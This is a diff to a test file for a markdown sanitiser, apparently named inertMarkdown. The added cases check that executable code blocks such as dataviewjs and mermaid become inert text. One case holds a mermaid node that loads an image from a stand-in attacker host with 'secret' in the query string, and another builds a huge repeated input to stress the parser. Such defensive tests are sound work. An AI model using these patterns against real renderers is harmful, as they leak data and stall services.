@@ -85,6 +85,21 @@ test.each([
 })
 
 test.each([
+  ['```dataviewjs\ncode\n```', '```text dataviewjs\ncode\n```'],
+  ['- a\n  ~~~ DataviewJS x\n  code\n  ~~~', '- a\n  ~~~text DataviewJS x\n  code\n  ~~~'],
+  ['> ```query\n> x\n> ```', '> ```text query\n> x\n> ```'],
+  [
+    '```mermaid\nflowchart\nA@{ img: "http://evil.example/?q=secret" }\n```',
+    '```text mermaid\nflowchart\nA@{ img: "http://evil.example/?q=secret" }\n```',
+  ],
+])('code that programs run is plain code: %j', (markdown, inert) => {
+  expect(inertMarkdown(markdown)).toBe(inert)
+  expect(inertMarkdown(inert)).toBe(inert)
+})
+
+test.each([
+  '```mermaid\nflowchart LR\nA --> B\n```',
+  '```js\ndataviewjs\n```',
   'plain text, 1 < 2 and 3 > 2',
   'a < b',
   '`<div>` and `![x](y)` are code',
@@ -117,6 +132,7 @@ test('long and deep texts become inert in time, however they are written', () =>
     '<a '.repeat(20_000),
     '\\'.repeat(50_001) + picture,
     `${'[x]: y\n'.repeat(2_000)}${picture}`,
+    `- ${' '.repeat(100_000)}\`\`\`\n${'```mermaid\n'.repeat(5_000)}`,
   ]
   for (const markdown of hostile) {
     expect(inertMarkdown(markdown)).not.toMatch(/(?<!\\)(?:\\\\)*!\[x\]\(http/)
